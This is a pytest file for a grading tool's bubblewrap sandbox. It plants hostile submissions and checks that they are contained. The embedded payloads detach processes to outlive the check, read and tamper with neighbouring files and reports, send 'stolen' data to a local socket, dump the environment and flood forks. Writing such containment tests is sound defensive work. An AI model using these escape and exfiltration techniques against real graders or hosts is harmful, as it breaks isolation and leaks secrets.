"""Submissions that try to reach beyond their check, graded in the sandbox (bubblewrap).

Each hostile submission below is a correct pool that, when imported, first tries to do
harm: outlive its check through a new session, read or change its neighbours, the
grading config and the reports, reach the network, read the grader's environment, or fork
without end. Each test asserts that nothing got through and that the honest submissions
graded in the same batch are graded as before. They need bubblewrap: ``.ci/run`` installs
it and sets POOLCHECK_REQUIRE_SANDBOX, which turns a missing ``bwrap`` into a failure
instead of a skip.
"""

from __future__ import annotations

import hashlib
import os
import select
import shutil
import signal
import socket
import subprocess
import sys
import uuid
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from poolcheck.app import sandbox
from poolcheck.app.grading import find_submissions, grade_all, write_reports
from poolcheck.app.isolation import PROCESSES, run_isolated
from poolcheck.app.sandbox import Protection, Sandboxing
from poolcheck.settings import PROFILES

TINY = replace(PROFILES["quick"], examples=3, steps=5, stress_seconds=2, shrink_seconds=1,
               parallel_seconds=1)
ONLY = ["sequential/bound", "sequential/exclusive"]
POOL = Path(__file__).resolve().parents[1] / "pool" / "pool.py"


@pytest.fixture
def bwrap() -> None:
    if shutil.which("bwrap") is None:
        if os.environ.get("POOLCHECK_REQUIRE_SANDBOX"):
            pytest.fail("bwrap is not installed, and POOLCHECK_REQUIRE_SANDBOX is set")
        pytest.skip("bubblewrap (bwrap) is not installed")


def _hostile(path: Path, prelude: str) -> Path:
    """A correct pool (the bundled one) that runs ``prelude`` once it is imported."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(POOL.read_text() + "\n\n" + prelude)
    return path


def _processes_with(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue  # it ended while we looked
    return found


def _digests(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest()
            for p in folder.iterdir() if p.is_file()}


@pytest.fixture
def marker() -> Iterator[str]:
    name = f"poolcheck-escape-{uuid.uuid4().hex}"
    yield name
    for pid in _processes_with(name):  # a failed test leaves nothing behind either
        try:
            os.killpg(os.getpgid(pid), signal.SIGKILL)
        except OSError:
            continue


def test_a_new_session_does_not_outlive_the_check(bwrap: None, tmp_path: Path,
                                                  marker: str) -> None:
    spec = _hostile(tmp_path / "escape.py", f'''
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["sh", "-c", "sleep 600; echo {marker}"])
    os._exit(0)
os.wait()
''')
    outcome = run_isolated(f"{spec}:Pool", "auto", TINY, 1, ONLY, sandbox=Sandboxing())
    assert [r.status for r in outcome.results] == ["passed", "passed"]
    assert _processes_with(marker) == []


def test_neighbours_config_reports_network_and_environment_are_out_of_reach(
        bwrap: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    subs, out = tmp_path / "subs", tmp_path / "grades"
    config = tmp_path / "grading.toml"
    config.write_text('# secret-of-the-config\n[weights]\n"sequential/*" = 1\n')
    honest = _hostile(subs / "honest.py", "# secret-of-the-neighbour")
    out.mkdir()
    (out / "summary.csv").write_text("earlier report\n")
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    monkeypatch.setenv("POOLCHECK_TEST_SECRET", "secret-of-the-environment")
    _hostile(subs / "evil.py", f'''
import os, socket
seen = []
for path in [{str(config)!r}, {str(honest)!r}, {str(out / "summary.csv")!r}]:
    try:
        seen.append(open(path).read())
    except OSError as exc:
        seen.append(f"cannot read {{path}}: {{exc.strerror}}")
for path, text in [({str(honest)!r}, "raise SystemExit"),
                   ({str(subs / "planted.py")!r}, "planted"),
                   ({str(out / "summary.csv")!r}, "evil,pass,19\\n")]:
    try:
        with open(path, "a") as stream:
            stream.write(text)
    except OSError as exc:
        seen.append(f"cannot write {{path}}: {{exc.strerror}}")
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen")
except OSError as exc:
    seen.append(f"cannot connect: {{exc.strerror}}")
seen.append(str(os.environ))
raise RuntimeError("evil ran: " + " | ".join(seen))
''')
    before = _digests(subs)
    submissions, _ = find_submissions(subs)
    graded = grade_all(submissions, "auto", TINY, 1, 2, ONLY,
                       hide=(subs, out, config.parent))
    write_reports(graded, out, "hostile batch")
    verdicts = {g.submission.name: g for g in graded}

    assert "evil ran" in (verdicts["evil"].error or "")  # it did run, and tried
    assert verdicts["evil"].verdict == "error"
    assert verdicts["honest"].verdict == "pass"
    assert verdicts["honest"].score == len(ONLY)
    assert _digests(subs) == before  # nothing changed, nothing planted
    reports = "".join(p.read_text() for p in out.iterdir())
    for secret in ("secret-of-the-config", "secret-of-the-neighbour",
                   "secret-of-the-environment", "earlier report"):
        assert secret not in reports
    assert "evil,pass" not in reports
    ready, _, _ = select.select([listener], [], [], 0)  # the child is gone: any connection
    listener.close()  # it made would be waiting here
    assert ready == []
    assert all(g.missing == () for g in graded) or os.geteuid() != 0


@pytest.mark.skipif(os.geteuid() != 0, reason="a process limit of its own needs a user of "
                    "its own, which only root can give")
def test_a_fork_flood_is_bounded_and_ends_with_its_check(bwrap: None, tmp_path: Path) -> None:
    spec = _hostile(tmp_path / "flood.py", f'''
import os, signal
LIMIT = {2 * PROCESSES}  # a bound of its own, should the sandbox's fail
forked = 0
try:
    while forked < LIMIT:
        if os.fork() == 0:
            signal.pause()
            os._exit(0)
        forked += 1
except OSError:
    pass
raise RuntimeError(f"forked {{forked}} processes")
''')
    outcome = run_isolated(f"{spec}:Pool", "auto", TINY, 1, ONLY, sandbox=Sandboxing())
    assert outcome.load_error is not None
    forked = int(outcome.load_error.split("forked ")[1].split()[0])
    assert 0 < forked < PROCESSES


def test_the_sandbox_sees_only_the_copy_and_writes_only_there(bwrap: None,
                                                              tmp_path: Path) -> None:
    """Its own folder holds a copy: what it writes there stays in the scratch folder."""
    mine = _hostile(tmp_path / "mine" / "pool.py", '''
import os
open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "scribble.txt"), "w").write("x")
''')
    (tmp_path / "mine" / "helper.py").write_text("VALUE = 1\n")
    (tmp_path / "neighbour.py").write_text("")
    confinement = sandbox.confine(f"{mine}:Pool", expose=mine.parent)
    try:
        listing = subprocess.run(
            [*confinement.prefix, sys.executable, "-I", "-c",
             f"import os; print(sorted(os.listdir({str(mine.parent)!r})), "
             f"os.path.exists({str(tmp_path / 'neighbour.py')!r}))"],
            pass_fds=(confinement.info_fd,) if confinement.info_fd is not None else (),
            capture_output=True, text=True, timeout=60)
    finally:
        confinement.close()
    assert listing.stdout.split() == ["['helper.py',", "'pool.py']", "False"], listing.stderr
    outcome = run_isolated(f"{mine}:Pool", "auto", TINY, 1, ONLY,
                           sandbox=Sandboxing(expose=mine.parent))
    assert [r.status for r in outcome.results] == ["passed", "passed"]
    assert sorted(p.name for p in (tmp_path / "mine").iterdir()) == ["helper.py", "pool.py"]
    assert not list(Path(confinement.scratch or tmp_path).glob("scribble.txt"))


def test_without_bubblewrap_the_missing_protections_are_named(
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shutil, "which", lambda name: None)
    confinement = sandbox.confine("pool.py:Pool")
    assert confinement.prefix == []
    assert Protection.NETWORK in confinement.missing
    assert Protection.PROCESSES in confinement.missing
    assert Protection.FILES in confinement.missing


def test_check_sandbox_records_histories_the_parent_writes(bwrap: None,
                                                           tmp_path: Path) -> None:
    folder = tmp_path / "histories"
    done = subprocess.run(
        [sys.executable, "-m", "poolcheck", "check", f"{POOL}:Pool", "--sandbox",
         "--check", "parallel/linearizable", "--record", str(folder), "--seed", "3"],
        capture_output=True, text=True, timeout=300, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    files = sorted(folder.glob("parallel-*.jsonl"))
    assert files and files[0].read_text().startswith('{"pool"')
    assert "not in force" not in done.stderr or os.geteuid() != 0


def test_a_submission_too_large_for_its_sandbox_is_an_error_of_its_own(
        bwrap: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from poolcheck.app.grading import grade

    subs = tmp_path / "subs"
    _hostile(subs / "huge.py", "# " + "x" * 2000)
    monkeypatch.setattr(sandbox, "COPY_LIMIT", 1000)
    [submission], _ = find_submissions(subs)
    graded = grade(submission, "auto", TINY, 1, ONLY)
    assert graded.verdict == "error" and "larger than" in (graded.error or "")
